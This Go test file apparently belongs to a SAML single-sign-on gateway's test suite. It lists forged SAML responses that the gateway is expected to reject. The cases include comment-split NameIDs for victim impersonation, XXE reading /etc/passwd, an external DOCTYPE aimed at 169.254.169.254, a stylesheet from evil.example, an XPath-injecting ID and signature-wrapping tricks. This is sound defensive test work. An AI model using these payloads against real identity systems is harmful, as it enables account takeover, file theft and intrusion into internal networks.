package idptest

import (
	"encoding/base64"
	"net/url"
	"strings"
	"unicode/utf16"

	"github.com/tracio-ai/ssogate/idp"
)

// ambiguous is a document that two parsers read differently.
func ambiguous(name, detail, wins string, forge func(SAMLForgery) url.Values) SAMLAttack {
	return SAMLAttack{Name: name, Wins: wins, Code: idp.CodeSAMLXML, Detail: detail, Forge: forge}
}

const (
	splitName = "a name that ends in the attacker's domain is cut to one of the victim's: the parser reads the text up to the node inside it"
	twoWays   = "what is verified and what is read differ"
)

// split puts raw bytes into the NameID behind the victim's name: canonical form and signature do not change by a comment.
func split(rawBytes, value string) func(SAMLForgery) url.Values {
	return ask(func(f SAMLForgery, o *RespondOptions) {
		o.NameID = f.Victim.Email + ".evil.example"
		o.NameIDFormat = FormatEmail
		o.hooks.signed = func(m *message) {
			m.nameID().Kids = []*node{text(f.Victim.Email), {Raw: rawBytes, Text: value}, text(".evil.example")}
		}
	})
}

func prolog(s string) func(SAMLForgery) url.Values {
	return written(func(xml string) string { return s + xml })
}

func swap(old, by string) func(SAMLForgery) url.Values {
	return written(func(xml string) string { return strings.Replace(xml, old, by, 1) })
}

func xmlAttacks() []SAMLAttack {
	return []SAMLAttack{
		ambiguous("comment-in-name-id", "comment", splitName, split("<!---->", "")),
		ambiguous("comment-in-attribute", "comment", splitName, after(SignAssertion, func(_ SAMLForgery, m *message) {
			m.assertion.find("AttributeValue").insert(0, raw("<!-- x -->"))
		})),
		ambiguous("comment-before-root", "comment", twoWays, prolog("<!-- x -->")),
		ambiguous("cdata-in-name-id", "cdata", splitName, ask(func(f SAMLForgery, o *RespondOptions) {
			o.hooks.signed = func(m *message) {
				v := m.nameID().content()
				m.nameID().Kids = []*node{{Raw: "<![CDATA[" + v + "]]>", Text: v}}
			}
		})),
		ambiguous("processing-instruction-in-name-id", "processing-instruction", splitName, split("<?x y?>", "")),
		ambiguous("processing-instruction-before-root", "processing-instruction", "a stylesheet of the attacker's is fetched or run", prolog(`<?xml-stylesheet href="http://evil.example/"?>`)),
		ambiguous("doctype-internal-entity", "doctype", "text the provider never signed stands in for an entity", prolog(`<!DOCTYPE Response [<!ENTITY e "admin">]>`)),
		ambiguous("doctype-external-entity", "doctype", "the gate reads its own files and posts them", prolog(`<!DOCTYPE Response [<!ENTITY e SYSTEM "file:///etc/passwd">]>`)),
		ambiguous("doctype-external-subset", "doctype", "the gate sends requests into its own network", prolog(`<!DOCTYPE Response SYSTEM "http://169.254.169.254/">`)),
		ambiguous("doctype-default-attribute", "doctype", "an ID attribute is declared that the document does not show", prolog(`<!DOCTYPE Response [<!ATTLIST Response ID ID #REQUIRED>]>`)),
		ambiguous("doctype-lower-case", "doctype", "a search for the usual spelling is passed by", prolog(`<!doctype Response>`)),
		ambiguous("directive", "directive", twoWays, prolog(`<!ELEMENT Response ANY>`)),
		ambiguous("undeclared-entity", "reference", "two parsers resolve it differently", swap("Success", "Su&cc;ess")),
		ambiguous("character-reference-out-of-range", "reference", twoWays, swap("Success", "Succ&#0;ess")),
		ambiguous("byte-order-mark", "bom", "a filter that looks at the first bytes is passed by", prolog("\xEF\xBB\xBF")),
		ambiguous("utf-16", "utf8", "a filter of bytes finds no markup", asUTF16),
		ambiguous("utf-7-declaration", "xml-declaration", "a filter of bytes finds no markup", prolog(`<?xml version="1.0" encoding="UTF-7"?>`)),
		ambiguous("xml-1.1", "xml-declaration", "control characters become legal", prolog(`<?xml version="1.1"?>`)),
		ambiguous("overlong-utf-8", "utf8", "a < that a filter does not see", swap("Success", "Su\xC0\xBCcess")),
		ambiguous("nul", "control-character", "C and Go end the text in different places", swap("Success", "Succ\x00ess")),
		ambiguous("text-before-root", "text-outside-root", twoWays, prolog("x")),
		ambiguous("text-after-root", "text-outside-root", twoWays, written(func(xml string) string { return xml + "x" })),
		ambiguous("second-root", "second-root", "the first root is verified and the last is read", written(func(xml string) string { return xml + xml })),
		ambiguous("vertical-tab-around-root", "control-character", twoWays, prolog("\v")),
		ambiguous("no-break-space-around-root", "text-outside-root", twoWays, prolog("\u00A0")),
		ambiguous("end-tag-of-another-name", "end-tag", "a parser that does not match tags sees another tree", written(func(xml string) string {
			i := strings.LastIndex(xml, "</")
			return xml[:i] + "</Other>"
		})),
		ambiguous("unclosed", "end-tag", twoWays, written(func(xml string) string { return xml[:strings.LastIndex(xml, "</")] })),
		ambiguous("empty-prefix", "name", "an element without a name is nobody's", swap("<saml:Subject>", "<:Subject>")),
		ambiguous("two-colons", "name", twoWays, swap("<saml:Subject>", "<saml:x:Subject>")),
		ambiguous("no-space-between-attributes", "syntax", twoWays, swap(`" Version=`, `"Version=`)),
		ambiguous("unquoted-attribute", "syntax", twoWays, swap(`Version="2.0"`, `Version=2.0`)),
		ambiguous("less-than-in-attribute", "syntax", twoWays, swap(`Version="2.0"`, `Version="2<0"`)),
		ambiguous("duplicate-attribute", "duplicate-attribute", "the first is verified and the last is read", swap(` Version="2.0"`, ` Version="2.0" Version="2.0"`)),
		ambiguous("duplicate-id-attribute", "duplicate-attribute", "a reference finds the element by one and code reads the other", swap(` IssueInstant=`, ` ID="_other" IssueInstant=`)),
		ambiguous("duplicate-attribute-by-namespace", "duplicate-attribute", "two prefixes of one namespace name one attribute twice", before(func(_ SAMLForgery, m *message) {
			v := m.assertion.find("AttributeValue")
			v.Attrs = []attr{{"xmlns:p", "urn:example:x"}, {"xmlns:q", "urn:example:x"}, {"p:a", "1"}, {"q:a", "2"}}
		})),
		ambiguous("tab-in-attribute", "attribute-whitespace", "one parser normalises it, the other keeps it", swap(`Version="2.0"`, "Version=\"2.0\t\"")),
		ambiguous("cdata-end-in-text", "cdata-end", twoWays, before(func(_ SAMLForgery, m *message) { m.nameID().insert(0, raw("]]>")) })),
		ambiguous("xml-space-attribute", "xml-attribute", "inherited xml attributes canonicalise differently", before(func(_ SAMLForgery, m *message) {
			m.assertion.find("AttributeValue").set("xml:space", "preserve")
		})),
		ambiguous("two-ids-by-case", "id-attribute", "the signature's reference finds the element by Id, and code reads ID", before(func(_ SAMLForgery, m *message) { m.assertion.set("Id", "_second") })),
		ambiguous("lower-case-id-instead", "id-attribute", twoWays, before(func(_ SAMLForgery, m *message) {
			id := m.assertion.get("ID")
			m.assertion.set("id", id+"x")
		})),
		ambiguous("saml-1-assertion-id", "id-attribute", twoWays, before(func(_ SAMLForgery, m *message) { m.assertion.set("AssertionID", "_second") })),
		ambiguous("duplicate-id", "duplicate-id", "a reference finds another element than the one that is read", before(func(_ SAMLForgery, m *message) { m.assertion.set("ID", m.root.get("ID")) })),
		ambiguous("duplicate-id-in-foreign-element", "duplicate-id", "a reference finds another element than the one that is read", before(func(_ SAMLForgery, m *message) {
			m.assertion.find("AttributeValue").Kids = []*node{el("x:y", []attr{{"xmlns:x", "urn:example:x"}, {"Id", m.assertion.get("ID")}})}
		})),
		ambiguous("prefixed-id", "id-prefix", "a library that ignores prefixes takes it for the ID", before(func(_ SAMLForgery, m *message) {
			m.assertion.find("AttributeValue").Attrs = []attr{{"xmlns:x", "urn:example:x"}, {"x:ID", "_second"}}
		})),
		ambiguous("id-with-a-quote", "id", "an ID that breaks out of an XPath expression", before(func(_ SAMLForgery, m *message) { m.assertion.set("ID", "_x' or '1'='1") })),
		ambiguous("id-of-300-characters", "id", "a store that cuts names takes two for one", before(func(_ SAMLForgery, m *message) { m.assertion.set("ID", "_"+strings.Repeat("x", 300)) })),
		ambiguous("id-with-a-colon", "id", twoWays, before(func(_ SAMLForgery, m *message) { m.assertion.set("ID", "x:y") })),
	}
}

// asUTF16 spells the document in another encoding.
func asUTF16(f SAMLForgery) url.Values {
	doc, err := f.IdP.RespondXML(f.base())
	if err != nil {
		panic(err)
	}
	out := []byte{0xFE, 0xFF}
	for _, u := range utf16.Encode([]rune(doc)) {
		out = append(out, byte(u>>8), byte(u))
	}
	return f.posted(base64.StdEncoding.EncodeToString(out))
}

// namespaceAttacks make one name mean two things.
func namespaceAttacks() []SAMLAttack {
	foreign := func(attrs []attr, name string) func(SAMLForgery) url.Values {
		return before(func(_ SAMLForgery, m *message) { m.assertion.find("AttributeValue").Kids = []*node{el(name, attrs)} })
	}
	return []SAMLAttack{
		ambiguous("prefix-rebound", "prefix-rebound", "a reader that goes by prefixes takes a foreign element for SAML's", foreign([]attr{{"xmlns:saml", "urn:example:x"}}, "saml:y")),
		ambiguous("prefix-rebound-to-saml", "prefix-rebound", "the reverse", foreign([]attr{{"xmlns:ds", nsAssertion}}, "ds:y")),
		ambiguous("prefix-undeclared", "undeclared-prefix", twoWays, swap("<saml:Subject>", "<zz:Subject>")),
		ambiguous("default-namespace-taken-back", "xmlns-empty", "some canonicalisers write nothing for it", foreign([]attr{{"xmlns", ""}}, "y")),
		ambiguous("relative-namespace", "xmlns-uri", "canonical form is not defined for it", foreign([]attr{{"xmlns:x", "relative"}}, "x:y")),
		ambiguous("xml-prefix-rebound", "xmlns-reserved", twoWays, foreign([]attr{{"xmlns:xml", "urn:example:x"}}, "y")),
		ambiguous("xmlns-prefix-bound", "xmlns-reserved", twoWays, foreign([]attr{{"xmlns:xmlns", "urn:example:x"}}, "y")),
		ambiguous("xmlns-namespace-bound", "xmlns-reserved", twoWays, foreign([]attr{{"xmlns:x", "http://www.w3.org/2000/xmlns/"}}, "x:y")),
		ambiguous("same-declaration-twice", "duplicate-attribute", twoWays, foreign([]attr{{"xmlns:x", "urn:example:x"}, {"xmlns:x", "urn:example:x"}}, "x:y")),
		ambiguous("attributes-in-doubtful-order", "attribute-order", "canonicalisers order them differently, so a signature is true for one alone", foreign([]attr{
			{"xmlns:a", "urn:example:z"}, {"xmlns:b", "urn:example:a"}, {"a:a", "1"}, {"b:b", "2"}}, "y")),
		{Name: "assertion-of-saml-1", Wins: "an assertion of other rules is read by ours", Code: idp.CodeSAMLShape, Detail: "unexpected-element",
			Forge: written(func(xml string) string {
				return strings.ReplaceAll(xml, nsAssertion, "urn:oasis:names:tc:SAML:1.0:assertion")
			})},
		{Name: "assertion-in-no-namespace", Wins: "a reader that goes by local names takes it", Code: idp.CodeSAMLShape, Detail: "reserved-name",
			Forge: after(SignAssertion, func(f SAMLForgery, m *message) { m.root.insert(2, el("Assertion", nil)) })},
		{Name: "assertion-in-foreign-namespace", Wins: "a reader that goes by local names takes it", Code: idp.CodeSAMLShape, Detail: "reserved-name",
			Forge: after(SignAssertion, func(f SAMLForgery, m *message) {
				evil := f.evil(m)
				evil.set("xmlns:saml", "")
				evil.Name, evil.Attrs = "x:Assertion", append(evil.Attrs, attr{"xmlns:x", "urn:example:x"}, m.declareAssertion())
				m.root.insert(2, evil)
			})},
		{Name: "foreign-attribute-on-assertion", Wins: "a reader that ignores prefixes takes it for Version or ID", Code: idp.CodeSAMLShape, Detail: "foreign-attribute",
			Forge: before(func(_ SAMLForgery, m *message) {
				m.assertion.Attrs = append(m.assertion.Attrs, attr{"xmlns:x", "urn:example:x"}, attr{"x:Version", "1.1"})
			})},
		shaped("unknown-attribute-in-signature", "unknown-attribute", "an attribute that some verifier understands", signed(func(_ SAMLForgery, s *signing) {
			s.edit = func(info *node) { info.Attrs = []attr{{"HMACOutputLength", "1"}} }
		})),
	}
}
